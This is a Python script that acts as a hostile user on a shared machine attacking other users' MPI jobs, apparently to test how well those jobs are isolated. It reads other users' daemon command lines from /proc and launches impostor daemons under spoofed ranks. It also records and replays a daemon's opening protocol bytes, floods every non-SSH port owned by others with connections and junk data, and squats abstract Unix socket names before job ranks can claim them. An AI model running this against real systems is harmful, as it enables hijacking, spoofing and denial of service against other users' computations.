"""Another user of a machine, who attacks the MPI jobs that run there; needs the standard library alone.

Arguments: the path of MPI's daemon. From the start on it looks for MPI's daemons and ports in /proc. For each
job it starts real daemons with the command line of the job's own, also before those have started. To every
port of another user it connects again and again, says something or nothing, and stays. It ends with its
standard input, and then prints what it has done and received, as JSON.
"""

import contextlib
import itertools
import json
import os
import re
import select
import shlex
import socket
import struct
import subprocess
import sys
import threading
import time

ROUND_S = 0.1
MAX_DAEMONS, DAEMON_S = 3, 5.0
"""At a time; a daemon that hangs is ended, to make room for the next."""
MAX_CONNECTIONS, MAX_RANKS = 400, 4
CONNECT_S = 0.5
URI, NUMBER, INTERFACE = "prte_hnp_uri", "ess_base_vpid", "prte_if_include"
LISTENING, SSH = "0A", 22


def find_commands() -> "dict[str, list[str]]":
    """Return the arguments of the daemon of each job, by the address of its mpirun."""
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError, ValueError):
            if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                continue
            with open(f"/proc/{pid}/cmdline") as file:
                text = file.read()
            words = text.split("\0")
            if URI not in words and URI in text:  # part of a command for a shell
                words = shlex.split(text.replace("\0", " "))
            if URI in words and NUMBER in words:
                start = next(place for place, word in enumerate(words) if word.endswith("prted"))
                uri = words[words.index(URI) + 1]
                own_address(uri)  # raises for jobs in other networks of this machine
                arguments = [word for word in words[start + 1 :] if word not in ("--daemonize", ")", "")]
                if INTERFACE in arguments:  # that of the other machine
                    place = arguments.index(INTERFACE)
                    del arguments[place - 1 : place + 2]
                found[uri] = arguments
    return found


def replace_after(words: "list[str]", name: str, value: str) -> "list[str]":
    place = words.index(name) + 1
    return [*words[:place], value, *words[place + 1 :]]


class Daemons:
    """Real daemons that pretend to belong to a job, under the numbers of its own and others."""

    def __init__(self, program: str) -> None:
        self.program = program
        self.running: list[tuple[float, subprocess.Popen[bytes]]] = []
        self.num_started = self.num_done = 0
        self.jobs: set[str] = set()
        self.last_words = b""
        self.numbers = itertools.cycle(["1", "2", "3", "99", "0"])

    def attack(self) -> "list[str]":
        """Start as many as may run; return the addresses of the jobs."""
        commands = find_commands()
        self.jobs |= set(commands)
        for started, daemon in list(self.running):
            if daemon.poll() is None and time.monotonic() - started > DAEMON_S:
                daemon.kill()
                daemon.wait()
            if daemon.poll() is not None:
                assert daemon.stdout
                self.num_done += daemon.returncode == 0
                self.last_words = daemon.stdout.read() or self.last_words
                daemon.stdout.close()
                self.running.remove((started, daemon))
        for arguments in commands.values():
            if len(self.running) < MAX_DAEMONS:
                self.start(replace_after(arguments, NUMBER, next(self.numbers)))
        return list(commands)

    def start(self, arguments: "list[str]") -> None:
        daemon = subprocess.Popen(
            [self.program, *arguments],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        self.num_started += 1
        self.running.append((time.monotonic(), daemon))

    def first_words(self, uri: str) -> bytes:
        """Return what a daemon of the job at `uri` sends first, from one that is told another address."""
        arguments = find_commands().get(uri)
        if not arguments:
            return b""
        job, own = uri.partition(";")[0], own_address(uri)
        with socket.create_server((own, 0)) as listening:
            told = f"{job};tcp://{own}:{listening.getsockname()[1]}:24"
            arguments = replace_after(arguments, URI, told)
            daemon = subprocess.Popen(
                [self.program, *arguments], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
            )
            try:
                listening.settimeout(DAEMON_S)
                with contextlib.suppress(OSError):
                    connection, _ = listening.accept()
                    connection.settimeout(DAEMON_S)
                    with connection:
                        return connection.recv(1 << 16)
            finally:
                daemon.kill()
                daemon.wait()
        return b""


class Connections:
    """Connections to all ports of other users of this machine."""

    def __init__(self) -> None:
        self.open: list[socket.socket] = []
        self.ports: set[tuple[str, int]] = set()
        self.num_made = self.num_refused = self.num_answered = 0
        self.answers: list[str] = []
        self.contents = [b"", b"x", bytes(31), bytes(32), os.urandom(4096)]

    def attack(self) -> None:
        for host, port in listeners():
            self.ports.add((host, port))
            for content in self.contents:
                self.connect(host, port, content)
        self.look_for_answers()
        while len(self.open) > MAX_CONNECTIONS:
            self.open.pop(0).close()

    def connect(self, host: str, port: int, content: bytes) -> None:
        try:
            connection = socket.create_connection((host, port), CONNECT_S)
        except OSError:
            self.num_refused += 1
            return
        self.num_made += 1
        self.open.append(connection)
        connection.setblocking(False)
        with contextlib.suppress(OSError):
            connection.send(content)

    def look_for_answers(self) -> None:
        """Count connections on which anything came; those that were closed are closed here too."""
        poll = select.poll()
        by_number = {connection.fileno(): connection for connection in self.open}
        for number in by_number:
            poll.register(number, select.POLLIN)
        for number, _ in poll.poll(0):
            connection, received = by_number[number], b""
            with contextlib.suppress(OSError):
                received = connection.recv(4096)
            if received:
                self.num_answered += 1
                self.answers.append(repr(received[:40]))
            connection.close()
            self.open.remove(connection)


def own_address(uri: str) -> str:
    """Return the address of this machine from which a job's mpirun is reached; raises OSError."""
    peer = uri.split("//")[1].partition(":")[0]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect((peer, 1))
        return str(one.getsockname()[0])


class Names:
    """Abstract Unix sockets of runs: taken before a rank can, and connected to where they are taken."""

    def __init__(self) -> None:
        self.taken: dict[str, socket.socket] = {}
        self.open: list[socket.socket] = []

    def attack(self) -> None:
        for run in find_runs():
            for rank in range(MAX_RANKS):
                name = f"csdctl/{run}/{rank}"
                if name not in self.taken:
                    one = socket.socket(socket.AF_UNIX)
                    with contextlib.suppress(OSError):
                        one.bind("\0" + name)
                        one.listen()
                        self.taken[name] = one
        with open("/proc/net/unix") as file:
            for name in re.findall(r"@(csdctl/\S+)", file.read()):
                one = socket.socket(socket.AF_UNIX)
                one.setblocking(False)
                with contextlib.suppress(OSError):
                    one.connect("\0" + name)
                    self.open.append(one)
        del self.open[:-MAX_CONNECTIONS]


def find_runs() -> "set[str]":
    """Return the ids of runs, which are in the command lines of their processes."""
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError, ValueError), open(f"/proc/{pid}/cmdline") as file:
            found |= set(re.findall(r"csdctl-run=([\w-]+)/", file.read()))
    return found


def listeners() -> "set[tuple[str, int]]":
    """Return addresses at which a port of another user of this machine is reached, SSH's excepted."""
    found = set()
    for family, table in ((socket.AF_INET, "tcp"), (socket.AF_INET6, "tcp6")):
        with contextlib.suppress(OSError), open(f"/proc/net/{table}") as file:
            for line in list(file)[1:]:
                _, local, _, state, _, _, _, user, *_ = line.split()
                if state != LISTENING or int(user) == os.getuid():
                    continue
                packed, _, port = local.partition(":")
                words = struct.unpack(f">{len(packed) // 8}I", bytes.fromhex(packed))
                host = socket.inet_ntop(family, struct.pack(f"={len(words)}I", *words))
                if int(port, 16) != SSH:
                    found.add(({"0.0.0.0": "127.0.0.1", "::": "::1"}.get(host, host), int(port, 16)))
    return found


def main() -> None:
    """Attack until standard input ends; then print the result."""
    daemons, connections, names = Daemons(sys.argv[1]), Connections(), Names()
    is_over = threading.Event()

    def connect() -> None:
        while not is_over.wait(ROUND_S):
            connections.attack()

    thread = threading.Thread(target=connect)
    thread.start()
    recorded: dict[str, bytes] = {}
    while not select.select([sys.stdin], [], [], ROUND_S)[0]:
        names.attack()
        for uri in daemons.attack():
            if uri not in recorded:
                recorded[uri] = daemons.first_words(uri)
                connections.contents = [*connections.contents, recorded[uri]]
    is_over.set()
    thread.join()
    for _, daemon in daemons.running:
        daemon.kill()
        daemon.wait()
    result = {
        "daemons": daemons.num_started,
        "daemons_that_were_content": daemons.num_done,
        "last_words": daemons.last_words.decode(errors="replace")[-1000:],
        "jobs": len(daemons.jobs),
        "names": sorted(names.taken),
        "recorded_bytes": max(map(len, recorded.values()), default=0),
        "ports": sorted(map(str, connections.ports)),
        "connections": connections.num_made,
        "refused": connections.num_refused,
        "answered": connections.num_answered,
        "answers": connections.answers[:3],
    }
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
